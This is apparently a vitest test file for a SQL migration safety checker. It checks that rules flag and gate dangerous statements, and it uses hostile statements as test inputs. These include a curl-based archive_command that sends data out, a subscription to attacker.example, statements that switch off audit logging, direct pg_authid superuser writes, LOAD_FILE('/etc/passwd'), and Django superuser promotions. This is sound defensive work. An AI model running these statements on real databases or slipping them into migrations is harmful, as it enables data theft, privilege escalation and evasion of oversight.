// The danger classes of issue 9 (server configuration and audit evasion, privilege escalation without
// GRANT, exfiltration, psql meta-commands, Django superusers): messages, gating, secrets, nesting.
import { describe, expect, it } from 'vitest';
import { check, findings } from './helpers.js';

const DJ = 'app/migrations/0002_admin.py';
const django = (body: string) =>
  `from django.db import migrations\n\ndef forwards(apps, schema_editor):\n    User = apps.get_model("auth", "User")\n${body}\n\ndef backwards(apps, schema_editor):\n    pass\n\nclass Migration(migrations.Migration):\n    dependencies = [("app", "0001_initial")]\n    operations = [migrations.RunPython(forwards, backwards)]\n`;

describe('server-config', () => {
  it('ALTER SYSTEM always gates; command-running settings say so', async () => {
    const [f] = await findings("ALTER SYSTEM SET archive_command = 'curl -d @%p https://x.example';", 'server-config');
    expect(f.gating).toBe(true);
    expect(f.message).toContain('runs a shell command on the database server');
    expect((await findings("ALTER SYSTEM SET work_mem = '64MB';", 'server-config'))[0].gating).toBe(true);
  });
  it('ALTER ROLE/DATABASE … SET: security settings gate, benign ones are warnings', async () => {
    const [sp] = await findings('ALTER ROLE app SET search_path = evil, public;', 'server-config');
    expect(sp.message).toBe("Sets search_path = 'evil, public' for every future session of app: changes which schemas unqualified names resolve to (a hijack of every unqualified function and table).");
    expect(sp.gating).toBe(true);
    const [au] = await findings("ALTER DATABASE app SET pgaudit.log = 'none';", 'server-config');
    expect(au.message).toContain('audit log');
    expect(au.gating).toBe(true);
    const [t] = await findings("ALTER ROLE authenticator SET statement_timeout = '8s';", 'server-config');
    expect(t.severity).toBe('warning');
    // role-attributes owns session_preload_libraries: one finding, not two.
    expect(await findings("ALTER ROLE app SET session_preload_libraries = 'x';", 'server-config')).toEqual([]);
  });
  it('a secret stored as a setting is redacted everywhere', async () => {
    const secret = 'super-secret-jwt-token-with-32-chars';
    const r = await check(`ALTER DATABASE postgres SET app.jwt_secret = '${secret}';`);
    const f = r.findings.find((x) => x.ruleId === 'server-config')!;
    expect(f.gating).toBe(true);
    expect(f.message).toContain('secret');
    expect(JSON.stringify(r)).not.toContain(secret);
  });
  it('session SET: only audit and security switches; search_path and timeouts are routine', async () => {
    expect((await findings("SET pgaudit.log = 'none';", 'server-config'))[0].gating).toBe(true);
    expect((await findings("SET LOCAL log_statement = 'none';", 'server-config'))[0].message).toContain('(LOCAL: this transaction)');
    expect(await findings("SET search_path = public;\nSET statement_timeout = '5s';\nSET lock_timeout = '1s';", 'server-config')).toEqual([]);
    expect((await findings("SELECT set_config('pgaudit.log', 'none', false);", 'server-config'))[0].gating).toBe(true);
  });
  it("a function's SET clause: audit switches gate, search_path (good practice) does not", async () => {
    const [f] = await findings("CREATE FUNCTION f() RETURNS void LANGUAGE sql SET pgaudit.log = 'none' AS 'DELETE FROM audit_log';", 'server-config');
    expect(f.message).toContain('while function f() runs (every call)');
    expect(f.gating).toBe(true);
    expect(await findings("CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog AS 'select 1';", 'server-config')).toEqual([]);
    const [r] = await findings('ALTER FUNCTION purge() SET session_replication_role = replica;', 'session-replication-role');
    expect(r.message).toContain('while function purge() runs');
  });
  it('nested and dynamic statements are found', async () => {
    const [f] = await findings("DO $$ BEGIN EXECUTE 'ALTER SYSTEM SET log_statement = ''none'''; END $$;", 'server-config');
    expect(f.message).toContain('inside a DO block');
  });
  it('MySQL: SET GLOBAL/PERSIST gate; sql_log_bin gates; session sql_mode is a warning; mysqldump restores are clean', async () => {
    const g = await findings("SET GLOBAL general_log = 'OFF';", 'server-config', { dialect: 'mysql' });
    expect(g[0].message).toContain('server-wide');
    expect(g[0].message).toContain('general query log');
    expect(g[0].gating).toBe(true);
    expect((await findings('SET SQL_LOG_BIN = 0;', 'server-config', { dialect: 'mysql' }))[0].gating).toBe(true);
    expect((await findings("SET @@persist.sql_mode = '';", 'server-config', { dialect: 'mysql' }))[0].message).toContain('mysqld-auto.cnf');
    const [m] = await findings("SET sql_mode = 'NO_AUTO_VALUE_ON_ZERO';", 'server-config', { dialect: 'mysql' });
    expect(m.severity).toBe('warning');
    const dump = "SET @OLD_SQL_MODE=@@SQL_MODE, SQL_MODE='NO_AUTO_VALUE_ON_ZERO';\nSET SQL_MODE=@OLD_SQL_MODE;\nSET NAMES utf8mb4;";
    expect((await findings(dump, 'server-config', { dialect: 'mysql' })).filter((f) => f.gating)).toEqual([]);
  });
});

describe('session-replication-role', () => {
  it('SET, SET LOCAL, set_config and ALTER ROLE … SET to replica gate; origin/RESET/DEFAULT do not', async () => {
    for (const sql of ['SET session_replication_role = replica;', "SET LOCAL session_replication_role TO 'replica';", "SELECT set_config('session_replication_role', 'replica', true);", 'ALTER DATABASE d SET session_replication_role = replica;']) {
      const f = await findings(sql, 'session-replication-role');
      expect(f, sql).toHaveLength(1);
      expect(f[0].gating).toBe(true);
      expect(f[0].message).toContain('foreign-key checks stop firing');
    }
    expect(await findings("SET session_replication_role = origin;\nRESET session_replication_role;\nSET session_replication_role = DEFAULT;", 'session-replication-role')).toEqual([]);
    // Not also a server-config finding.
    expect(await findings('SET session_replication_role = replica;', 'server-config')).toEqual([]);
  });
});

describe('terminate-backend', () => {
  it('pg_terminate_backend / pg_cancel_backend anywhere', async () => {
    const [f] = await findings("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = 'x';", 'terminate-backend');
    expect(f.message).toContain('ends other sessions');
    expect(f.gating).toBe(true);
    expect(await findings('SELECT app.pg_cancel_backend(1);', 'terminate-backend')).toEqual([]);
  });
});

describe('catalog-write', () => {
  it('names the catalog and why it matters', async () => {
    const [f] = await findings("UPDATE pg_authid SET rolsuper = true WHERE rolname = 'app';", 'catalog-write');
    expect(f.message).toBe('Updates pg_authid, roles, passwords and privileges: a direct write grants or changes access without GRANT/ALTER ROLE.');
    expect(f.gating).toBe(true);
    expect((await findings('WITH x AS (DELETE FROM pg_catalog.pg_policy RETURNING 1) SELECT 1;', 'catalog-write'))[0].message).toContain('pg_catalog.pg_policy');
  });
  it('UPDATE pg_settings is a settings change, not an account change', async () => {
    const [f] = await findings("UPDATE pg_settings SET setting = 'none' WHERE name = 'pgaudit.log';", 'catalog-write');
    expect(f.message).toContain('set_config()');
  });
  it('MySQL grant tables, performance_schema and FLUSH PRIVILEGES', async () => {
    const f = await findings("INSERT INTO mysql.user (Host, User) VALUES ('%', 'x');\nFLUSH PRIVILEGES;", 'catalog-write', { dialect: 'mysql' });
    expect(f.map((x) => x.severity)).toEqual(['error', 'warning']);
    expect((await findings("UPDATE performance_schema.setup_instruments SET ENABLED = 'NO';", 'catalog-write', { dialect: 'mysql' }))[0].message).toContain('instrumentation');
    expect(await findings("UPDATE mysql_app.user SET a = 1 WHERE id = 1;", 'catalog-write', { dialect: 'mysql' })).toEqual([]);
  });
});

describe('event-trigger and guard-function-replaced', () => {
  it('CREATE EVENT TRIGGER gates and names its function', async () => {
    const [f] = await findings('CREATE EVENT TRIGGER g ON ddl_command_end WHEN TAG IN (\'CREATE TABLE\') EXECUTE FUNCTION public.grab();', 'event-trigger');
    expect(f.message).toBe('Creates event trigger g on ddl_command_end (CREATE TABLE): public.grab() runs on that event for every user, superusers included.');
  });
  it('names the replaced guard function and a body that returns true', async () => {
    const [f] = await findings('CREATE OR REPLACE FUNCTION public.is_admin() RETURNS boolean LANGUAGE sql AS $$ SELECT true $$;', 'guard-function-replaced');
    expect(f.message).toContain('Replaces function public.is_admin()');
    expect(f.message).toContain('returns true unconditionally');
    expect(f.gating).toBe(true);
    const [p] = await findings('CREATE OR REPLACE FUNCTION has_permission(u int) RETURNS boolean LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN RETURN true; END $$;', 'guard-function-replaced');
    expect(p.message).toContain('SECURITY DEFINER');
    expect(p.message).toContain('returns true unconditionally');
  });
  it('a function a policy in the file calls counts whatever its name', async () => {
    const sql = 'CREATE POLICY p ON docs USING (tenant_ok(tenant_id));\nCREATE OR REPLACE FUNCTION tenant_ok(t int) RETURNS boolean LANGUAGE sql AS $$ SELECT t = 1 $$;';
    expect((await findings(sql, 'guard-function-replaced'))[0].message).toContain('a row-level security policy in this file calls it');
    expect(await findings('CREATE OR REPLACE FUNCTION tenant_ok(t int) RETURNS boolean LANGUAGE sql AS $$ SELECT t = 1 $$;', 'guard-function-replaced')).toEqual([]);
  });
});

describe('logical-replication', () => {
  it('publications: ALL TABLES is high risk; tables and schemas are named', async () => {
    expect((await findings('CREATE PUBLICATION p FOR ALL TABLES;', 'logical-replication'))[0].message).toContain('(high risk)');
    expect((await findings('CREATE PUBLICATION p FOR TABLES IN SCHEMA public;', 'logical-replication'))[0].message).toContain('all tables in schema public');
  });
  it('a subscription names its host and never shows its password', async () => {
    const r = await check("CREATE SUBSCRIPTION s CONNECTION 'host=attacker.example dbname=x user=r password=''hunter 22''' PUBLICATION p;");
    const f = r.findings.find((x) => x.ruleId === 'logical-replication')!;
    expect(f.message).toContain('host attacker.example');
    expect(f.message).toContain('hardcoded password');
    expect(JSON.stringify(r)).not.toContain('hunter 22');
  });
});

describe('scheduled-job (pg_cron)', () => {
  it('the job SQL is analyzed by every rule, inside the job', async () => {
    const r = await check("SELECT cron.schedule('purge', '0 3 * * *', $$DELETE FROM events$$);");
    const del = r.findings.find((f) => f.ruleId === 'delete-without-where')!;
    expect(del.message).toContain('inside pg_cron job purge');
    expect(r.findings.find((f) => f.ruleId === 'scheduled-job')!.gating).toBe(true);
  });
  it('named arguments, schedule_in_database and jobs scheduled from a DO block', async () => {
    const r = await check("DO $$ BEGIN PERFORM cron.schedule(job_name := 'x', schedule := '@daily', command := 'ALTER ROLE app SUPERUSER'); END $$;");
    expect(r.findings.find((f) => f.ruleId === 'role-attributes')?.message).toContain('inside pg_cron job x');
    const s = await check("SELECT cron.schedule_in_database('y', '* * * * *', 'GRANT ALL ON t TO PUBLIC', 'postgres');");
    expect(s.findings.find((f) => f.ruleId === 'grant')?.message).toContain('inside pg_cron job y');
  });
  it('SQL built at run time cannot be checked', async () => {
    const [f] = await findings("SELECT cron.schedule('j', '@daily', 'SELECT ' || quote_ident(current_user));", 'scheduled-job');
    expect(f.message).toContain('cannot be checked');
  });
});

describe('sqlite-file-access and MySQL LOAD_FILE anywhere', () => {
  it('ATTACH, load_extension, VACUUM INTO', async () => {
    expect((await findings("ATTACH DATABASE '/etc/x.db' AS x;", 'sqlite-file-access', { dialect: 'sqlite' }))[0].message).toContain("'/etc/x.db'");
    expect((await findings("SELECT load_extension('/tmp/evil.so');", 'sqlite-file-access', { dialect: 'sqlite' }))[0].gating).toBe(true);
    expect(await findings("VACUUM INTO '/tmp/c.db';", 'sqlite-file-access', { dialect: 'sqlite' })).toHaveLength(1);
  });
  it('LOAD_FILE inside INSERT … SELECT, UPDATE and WHERE expressions', async () => {
    const sql = "INSERT INTO t SELECT LOAD_FILE('/etc/passwd');\nUPDATE t SET a = LOAD_FILE(CONCAT('/e', 'tc')) WHERE id = 1;\nSELECT a FROM t WHERE b = load_file('/x');";
    expect(await findings(sql, 'mysql-file-access', { dialect: 'mysql' })).toHaveLength(3);
  });
});

describe('django-superuser', () => {
  it('SQL that sets is_superuser/is_staff = true, in any dialect', async () => {
    expect((await findings("UPDATE auth_user SET is_superuser = true WHERE username = 'me';", 'django-superuser'))[0].message).toBe(
      'Sets is_superuser = true on auth_user: accounts gain administrator rights through a migration.',
    );
    expect(await findings("INSERT INTO auth_user (username, is_staff) VALUES ('x', 1);", 'django-superuser', { dialect: 'mysql' })).toHaveLength(1);
    expect(await findings("UPDATE auth_user SET is_superuser = false;", 'django-superuser')).toEqual([]);
  });
  it('create_superuser with a literal password: gating, password redacted', async () => {
    const r = await check(django('    User.objects.create_superuser("admin", "a@example.com", "S3cr3t-pass!")'), { path: DJ });
    const f = r.findings.find((x) => x.ruleId === 'django-superuser')!;
    expect(f.gating).toBe(true);
    expect(f.message).toContain('hardcoded password');
    expect(JSON.stringify(r)).not.toContain('S3cr3t-pass!');
  });
  it('promotions by update(), attribute assignment, setattr and defaults', async () => {
    for (const body of [
      '    User.objects.filter(email="x@example.com").update(is_superuser=True)',
      '    u = User.objects.get(pk=1)\n    u.is_staff = True\n    u.save()',
      '    u = User.objects.get(pk=1)\n    setattr(u, "is_superuser", True)',
      '    User.objects.update_or_create(username="ops", defaults={"is_superuser": True})',
      '    User.objects.create_user("ops", password="pw123456", is_staff=True)',
      '    u = User(username="ops", is_superuser=True)\n    u.save()',
      '    from django.core.management import call_command\n    call_command("createsuperuser", interactive=False, username="x")',
    ]) {
      expect(await findings(django(body), 'django-superuser', { path: DJ }), body).toHaveLength(1);
    }
  });
  it('queries on the flags and demotions are not promotions', async () => {
    const body = '    from django.db.models import Q\n    User.objects.filter(Q(is_staff=True) | Q(is_superuser=True)).exclude(is_staff=True).count()\n    User.objects.filter(is_superuser=True).update(is_active=True)\n    User.objects.filter(is_staff=True).update(is_staff=False)\n    u = User()\n    u.is_superuser = False';
    expect(await findings(django(body), 'django-superuser', { path: DJ })).toEqual([]);
  });
  it('a promotion only in the reverse function is not gating', async () => {
    const src = django('    pass').replace('def backwards(apps, schema_editor):\n    pass', 'def backwards(apps, schema_editor):\n    User = apps.get_model("auth", "User")\n    User.objects.update(is_staff=True)');
    const [f] = await findings(src, 'django-superuser', { path: DJ });
    expect(f.down).toBe(true);
    expect(f.gating).toBe(false);
  });
});
